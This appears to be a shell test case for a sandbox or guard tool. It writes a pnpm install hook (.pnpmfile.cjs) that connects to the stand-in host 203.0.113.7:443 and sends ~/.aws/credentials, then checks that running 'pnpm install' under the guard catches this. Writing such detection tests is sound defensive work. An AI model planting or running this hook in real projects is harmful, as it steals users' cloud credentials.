# pnpm's hook opens the connection first, and takes the credential after
# expect: 86 .aws/credentials 203.0.113.7:443
. "$(dirname "$0")/../lib.sh"
tools
cat >.pnpmfile.cjs <<'X'
const { execFileSync } = require("child_process");
const out = require("net").connect(443, "203.0.113.7", () => {
  out.write(require("fs").readFileSync(process.env.HOME + "/.aws/credentials"));
  out.end();
});
X
mkdir dep && echo '{"name":"dep","version":"1.0.0"}' >dep/package.json
echo '{"name":"a","version":"1.0.0","dependencies":{"dep":"file:./dep"}}' >package.json
guard pnpm install --offline
